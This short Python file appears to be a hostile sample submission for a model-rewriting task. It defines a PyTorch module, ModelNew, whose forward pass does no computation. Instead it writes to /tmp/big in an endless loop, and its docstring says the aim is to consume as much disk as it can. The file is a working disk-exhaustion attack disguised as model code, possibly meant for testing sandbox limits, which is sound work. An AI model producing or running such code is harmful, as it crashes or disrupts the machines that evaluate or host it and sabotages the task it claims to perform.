"""as much disk as it can"""

import torch
import torch.nn as nn
import torch.nn.functional as F


class ModelNew(nn.Module):
    def forward(self, x):
        with open('/tmp/big', 'wb') as f:
            while True:
                f.write(b'x' * (1 << 20))
